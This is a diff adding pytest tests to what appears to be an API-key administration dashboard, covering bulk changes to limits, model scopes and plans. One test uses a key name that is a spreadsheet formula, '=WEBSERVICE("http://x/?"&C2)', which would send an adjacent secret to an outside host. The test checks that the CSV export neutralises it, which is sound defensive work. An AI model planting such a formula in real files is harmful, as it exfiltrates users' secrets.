@@ -7,7 +7,7 @@ import pytest
 
 from tests.conftest import World, usd
 from tests.dashboard.conftest import Visit
-from toolkit.admin import keys, organisations
+from toolkit.admin import keys, organisations, plans
 from toolkit.admin.keys import NewSecret
 from toolkit.core.policy import KeyStatus, Role
 from toolkit.dashboard import key_bulk
@@ -63,6 +63,24 @@ def test_a_limit_a_plan_a_scope_and_an_owner_are_set(visit: Open, world: World) 
     assert (stored(world, other).monthly_limit, stored(world, other).owner) == (None, "")
 
 
+@pytest.mark.parametrize(("act", "free"), [("limit", "bulk_no_limit"), ("models", "bulk_all_models")])
+def test_no_bound_is_taken_away_unasked(visit: Open, world: World, act: str, free: str) -> None:
+    """What was left empty changes nothing; to free keys of a limit or a scope is said."""
+    bound = world.key("bound", monthly_limit=usd(5), models=["gpt-test"])
+    page = choose(visit("keys"), act, bound)
+    assert page.app.button(key="confirm").disabled
+    page.app.checkbox(key=free).check()
+    page.run().click("confirm")
+    key = stored(world, bound)
+    assert (key.monthly_limit, key.scope) == ((None, '["gpt-test"]') if act == "limit" else (usd(5), "[]"))
+
+
+def test_no_name_is_a_formula_beside_secrets(world: World) -> None:
+    """A spreadsheet that opens the file must not send them anywhere."""
+    new = world.key('=WEBSERVICE("http://x/?"&C2)')
+    assert list(csv.reader(key_bulk.secrets_file([new]).splitlines()))[1][0] == '\'=WEBSERVICE("http://x/?"&C2)'
+
+
 def test_rotated_secrets_come_as_one_file_once(visit: Open, world: World) -> None:
     """The old ones are dead, and the page forgets the new ones."""
     one, two = world.key("one"), world.key("two")
@@ -94,3 +112,16 @@ def test_nobody_changes_keys_that_are_not_theirs(visit: Open, world: World, role
     page.click("bulk")
     assert page.app.multiselect(key="bulk_keys").options == ["own"]
     assert stored(world, theirs).status == KeyStatus.ACTIVE
+
+
+def test_a_plan_is_given_to_several(visit: Open, world: World) -> None:
+    """An org admin chooses among those that the organisation has."""
+    one, two = world.key("one"), world.key("two")
+    with world.workspace.write() as tx:
+        dear = plans.add(tx, "Dear", 2_000_000, ["gpt-test"]).id
+    own = choose(visit("keys", Role.ORG_ADMIN, world.org_id), "plan", one)
+    assert own.app.selectbox(key="bulk_plan").options == ["standard"]
+    page = choose(visit("keys"), "plan", one, two)
+    page.app.selectbox(key="bulk_plan").select(dear)
+    assert "2 keys changed, 0 not." in page.run().click("confirm").text
+    assert {stored(world, new).plan_id for new in (one, two)} == {dear}
